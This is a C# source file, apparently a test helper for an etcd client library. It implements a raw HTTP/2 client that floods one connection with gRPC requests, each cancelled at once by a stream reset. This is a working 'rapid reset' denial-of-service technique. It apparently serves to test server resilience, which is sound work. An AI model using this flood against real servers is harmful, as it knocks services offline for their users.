using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace EtcdSharp.Hostile.Reads;

/// <summary>A client that asks and takes its question back in the same breath, call after call on one connection.</summary>
internal sealed class ResettingClient : IDisposable
{
    private const byte Data = 0;
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte Ping = 6;
    private const byte EndStream = 1;
    private const byte Acknowledged = 1;
    private const byte EndHeaders = 4;
    private const int HeaderLength = 9;
    private const int Cancel = 8;

    private readonly TcpClient _client = new() { NoDelay = true };
    private NetworkStream _stream = null!;

    public static async Task<ResettingClient> ConnectAsync(Uri address)
    {
        var client = new ResettingClient();
        await client._client.ConnectAsync(address.Host, address.Port);
        client._stream = client._client.GetStream();
        await client._stream.WriteAsync(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
        await client._stream.WriteAsync(Frame(Settings, 0, 0, []));
        return client;
    }

    /// <summary>Sends the calls; returns when the server has answered a ping that was sent behind them, so has seen them all.</summary>
    public async Task FloodAsync(string path, byte[] request, int calls)
    {
        using var all = new MemoryStream();
        for (var i = 0; i < calls; i++)
        {
            var stream = (2 * i) + 1;
            all.Write(Frame(Headers, EndHeaders, stream, HeaderBlock(path)));
            all.Write(Frame(Data, EndStream, stream, request));
            all.Write(Frame(ResetStream, 0, stream, [0, 0, 0, Cancel]));
        }

        all.Write(Frame(Settings, Acknowledged, 0, []));
        all.Write(Frame(Ping, 0, 0, new byte[8]));
        await _stream.WriteAsync(all.ToArray());
        await ReadUntilPongAsync();
    }

    public void Dispose() => _client.Dispose();

    private async Task ReadUntilPongAsync()
    {
        using var limit = new CancellationTokenSource(TimeSpan.FromMinutes(2));
        var header = new byte[HeaderLength];
        while (true)
        {
            await _stream.ReadExactlyAsync(header, limit.Token);
            await _stream.ReadExactlyAsync(new byte[(header[0] << 16) | (header[1] << 8) | header[2]], limit.Token);
            if (header[3] == Ping && header[4] == Acknowledged)
            {
                return;
            }
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[HeaderLength + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, HeaderLength);
        return frame;
    }

    /// <summary>POST and http from the static table, the others as literals that are not indexed.</summary>
    private static byte[] HeaderBlock(string path)
    {
        List<byte> block = [0x83, 0x86];
        foreach (
            var (name, value) in (ReadOnlySpan<(string, string)>)
                [(":path", path), (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
        )
        {
            block.AddRange([0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name)]);
            block.AddRange([(byte)value.Length, .. Encoding.ASCII.GetBytes(value)]);
        }

        return [.. block];
    }
}
